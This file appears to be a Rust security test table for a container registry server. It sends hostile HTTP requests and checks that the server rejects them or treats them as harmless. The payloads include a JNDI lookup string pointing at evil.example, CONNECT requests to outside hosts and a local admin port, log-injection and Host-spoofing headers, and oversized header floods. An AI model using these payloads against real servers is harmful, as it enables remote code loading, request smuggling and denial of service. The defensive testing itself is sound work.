//! Methods and headers: too many, too long, or meant to be believed.

use crate::request::{Request, delete, get, head, patch, post, put, raw};
use crate::table::{Case, Expected, Table, ask, bodiless, harmless, oci, unreadable};

pub(crate) const TABLE: Table = Table::new(cases);

const NO_METHOD: Expected = oci(405, "UNSUPPORTED");
const TOO_LARGE: Expected = oci(431, "SIZE_INVALID");

fn cases() -> Vec<Case> {
    [methods(), overrides(), sizes(), hosts(), upgrades()]
        .into_iter()
        .flatten()
        .collect()
}

#[rustfmt::skip] // A row is a line.
fn methods() -> Vec<Case> {
    let manifest = "/v2/hostile/one/manifests/latest";
    let mut cases = Vec::new();
    for method in ["TRACE", "TRACK", "OPTIONS", "PROPFIND", "LOCK", "PURGE", "DEBUG", "get", "Get", "HACK", "GETS", "DELETE1"] {
        cases.push(ask(format!("{method} on a manifest"), Request::new(method, manifest), NO_METHOD));
    }
    cases.extend([
        ask("TRACE on the base", Request::new("TRACE", "/v2/"), NO_METHOD),
        ask("TRACE on /token", Request::new("TRACE", "/token"), NO_METHOD),
        ask("CONNECT to another machine", raw("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nConnection: close\r\n\r\n"), oci(404, "UNSUPPORTED")),
        ask("CONNECT to this machine's admin port", raw("CONNECT 127.0.0.1:9900 HTTP/1.1\r\nHost: 127.0.0.1:9900\r\nConnection: close\r\n\r\n"), oci(404, "UNSUPPORTED")),
        ask("PRI on HTTP/1.1", raw("PRI * HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"), oci(404, "UNSUPPORTED")),
        ask("a method of 8 KiB", Request::new(&"X".repeat(8_000), manifest), NO_METHOD),
        ask("a method with a slash", Request::new("GE/T", manifest), unreadable(400)),
        ask("a method with a quote", Request::new("GET\"", manifest), unreadable(400)),
        ask("a method of another alphabet", Request::new("GÉT", manifest), unreadable(400)),
        ask("POST on a manifest", post(manifest).body("{}"), NO_METHOD),
        ask("PATCH on a manifest", patch(manifest).body("{}"), NO_METHOD),
        ask("PUT on a blob", put("/v2/hostile/one/blobs/{zero}").body("x"), NO_METHOD),
        ask("POST on a blob", post("/v2/hostile/one/blobs/{zero}").body("x"), NO_METHOD),
        ask("GET where uploads start", get("/v2/hostile/one/blobs/uploads/"), NO_METHOD),
        ask("DELETE where uploads start", delete("/v2/hostile/one/blobs/uploads/"), NO_METHOD),
        ask("DELETE on a tag list", delete("/v2/hostile/one/tags/list"), NO_METHOD),
        ask("DELETE on the catalog", delete("/v2/_catalog"), NO_METHOD),
        ask("DELETE on the base", delete("/v2/"), NO_METHOD),
        ask("PUT on referrers", put("/v2/hostile/one/referrers/{zero}").body("{}"), NO_METHOD),
        ask("DELETE on /token", delete("/token"), NO_METHOD),
        ask("GET on the exchange", get("/sts/exchange"), NO_METHOD),
        ask("PUT on the keys", put("/.well-known/jwks/registry.json").body("{}"), NO_METHOD),
        ask("HEAD on the exchange", head("/sts/exchange"), bodiless(405)),
    ]);
    cases
}

/// A GET stays a GET.
#[rustfmt::skip] // A row is a line.
fn overrides() -> Vec<Case> {
    let read = || get("/v2/hostile/one/manifests/latest");
    vec![
        ask("X-HTTP-Method-Override", read().with("X-HTTP-Method-Override", "DELETE"), harmless(200)),
        ask("X-HTTP-Method", read().with("X-HTTP-Method", "DELETE"), harmless(200)),
        ask("X-Method-Override", read().with("X-Method-Override", "DELETE"), harmless(200)),
        ask("_method in the query", get("/v2/hostile/one/manifests/latest?_method=DELETE"), harmless(200)),
        ask("X-HTTP-Method-Override on POST", post("/v2/hostile/one/manifests/latest").with("X-HTTP-Method-Override", "DELETE"), NO_METHOD),
        ask("X-Original-URL", read().with("X-Original-URL", "/v2/hostile/two/tags/list"), harmless(200)),
        ask("X-Rewrite-URL", get("/v2/nobody/tags/list").with("X-Rewrite-URL", "/v2/hostile/one/tags/list"), oci(401, "UNAUTHORIZED")),
        ask("a request id of somebody else", read().with("X-Request-Id", "evil.example\u{1}").with("X-Request-Id", "evil.example"), unreadable(400)),
        ask("a request id that is not believed", read().with("X-Request-Id", "evil.example"), harmless(200)),
        ask("a trace of nobody", read().with("traceparent", "00-zz-zz-zz"), harmless(200)),
        ask("a trace of 8 KiB", read().with("traceparent", "0".repeat(8_000)).with("tracestate", "x=y,".repeat(2_000)), harmless(200)),
        ask("a user agent that is a log line", read().with("User-Agent", "\",\"level\":\"ERROR2\",\"x\":\""), harmless(200)),
        ask("a lookup in a header", read().with("User-Agent", "${jndi:ldap://evil.example/x}"), harmless(200)),
        ask("an Accept of nothing", read().with("Accept", ";;;,,,"), harmless(200)),
        ask("an Accept of 10,000 types", read().with("Accept", "a/b,".repeat(10_000)), harmless(200)),
    ]
}

#[rustfmt::skip] // A row is a line.
fn sizes() -> Vec<Case> {
    let many = |count: usize, length: usize| {
        (0..count).fold(get("/v2/"), |request, number| request.with(&format!("X-{number}"), "x".repeat(length)))
    };
    let unreadable = unreadable(431);
    vec![
        ask("a header of 60 KiB", many(1, 60 * 1024), harmless(200)),
        ask("a header of 66 KiB", many(1, 66 * 1024), TOO_LARGE),
        ask("100 headers of 700 bytes", many(100, 700), TOO_LARGE),
        ask("a header name of 65,000 letters", get("/v2/").with(&"X".repeat(65_000), "x"), TOO_LARGE),
        ask("a header name of 70,000 letters", get("/v2/").with(&"X".repeat(70_000), "x"), unreadable),
        ask("a cookie of 66 KiB", get("/v2/").with("Cookie", "x".repeat(66 * 1024)), TOO_LARGE),
        ask("a token of 66 KiB", get("/v2/").nobody().with("Authorization", format!("Bearer {}", "x".repeat(66 * 1024))), TOO_LARGE),
        ask("a token of a megabyte", get("/v2/").nobody().with("Authorization", format!("Bearer {}", "x".repeat(1024 * 1024))), unreadable),
        ask("a header of a megabyte", many(1, 1024 * 1024), unreadable),
        ask("a header of 500 KiB", many(1, 500 * 1024), unreadable),
        ask("200 headers", many(200, 1), unreadable),
        ask("10,000 headers", many(10_000, 1), unreadable),
        ask("the same header 200 times", (0..200).fold(get("/v2/"), |request, _| request.with("X", "x")), unreadable),
        ask("a header of nothing, 100 times", many(100, 0), harmless(200)),
    ]
}

/// Who the registry is, is not for a client to say.
#[rustfmt::skip] // A row is a line.
fn hosts() -> Vec<Case> {
    let nobody = |host: &str| get("/v2/").nobody().with("Host", host);
    let challenged = oci(401, "UNAUTHORIZED");
    let in_doubt = oci(400, "UNSUPPORTED");
    let line = |lines: &str| raw(format!("GET /v2/ HTTP/1.1\r\n{lines}Connection: close\r\n\r\n"));
    vec![
        ask("another host", nobody("evil.example"), challenged),
        ask("a host with a path", nobody("evil.example/x?"), challenged),
        ask("a host with a user", nobody("x@evil.example"), challenged),
        ask("a host with quotes", nobody("\",realm=\"http://evil.example"), challenged),
        ask("an empty host", nobody(""), challenged),
        ask("this host with another port", nobody("127.0.0.1:1"), challenged),
        ask("localhost with something behind it", nobody("localhost.evil.example"), challenged),
        ask("two hosts", line("Host: {host}\r\nHost: evil.example\r\n"), in_doubt),
        ask("two hosts, the other first", line("Host: evil.example\r\nHost: {host}\r\n"), in_doubt),
        ask("the same host twice", line("Host: {host}\r\nHost: {host}\r\n"), in_doubt),
        ask("no host", line(""), in_doubt),
        ask("no host with HTTP/1.0, which has none", raw("GET /v2/ HTTP/1.0\r\n\r\n"), challenged),
        ask("X-Forwarded-Host", get("/v2/").nobody().with("X-Forwarded-Host", "evil.example"), challenged),
        ask("X-Forwarded-Proto and Forwarded", get("/v2/").nobody().with("X-Forwarded-Proto", "https").with("Forwarded", "host=evil.example"), challenged),
        ask("X-Forwarded-For of this machine", get("/v2/").nobody().with("X-Forwarded-For", "127.0.0.1"), challenged),
    ]
}

#[rustfmt::skip] // A row is a line.
fn upgrades() -> Vec<Case> {
    let upgrade = |to: &str| get("/v2/").with("Connection", "Upgrade, HTTP2-Settings, close").with("Upgrade", to);
    vec![
        ask("an upgrade to h2c", upgrade("h2c").with("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"), harmless(200)),
        ask("an upgrade to a WebSocket", upgrade("websocket").with("Sec-WebSocket-Key", "x").with("Sec-WebSocket-Version", "13"), harmless(200)),
        ask("an upgrade to TLS", upgrade("TLS/1.2"), harmless(200)),
        ask("an upgrade to anything", upgrade("evil/1.0"), harmless(200)),
        ask("Connection that drops Authorization", get("/v2/").with("Connection", "close, Authorization"), harmless(200)),
        ask("Max-Forwards of nothing", get("/v2/").with("Max-Forwards", "0"), harmless(200)),
    ]
}
